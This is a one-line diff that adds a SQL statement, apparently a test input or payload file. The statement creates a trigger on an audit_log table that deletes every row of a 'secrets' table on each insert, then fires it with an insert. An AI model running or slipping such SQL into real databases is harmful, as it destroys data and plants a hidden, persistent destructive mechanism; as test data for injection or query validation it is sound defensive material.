@@ -1,0 +1,1 @@
+CREATE TRIGGER tr AFTER INSERT ON audit_log BEGIN DELETE FROM secrets; END; INSERT INTO audit_log(what) VALUES ('x')
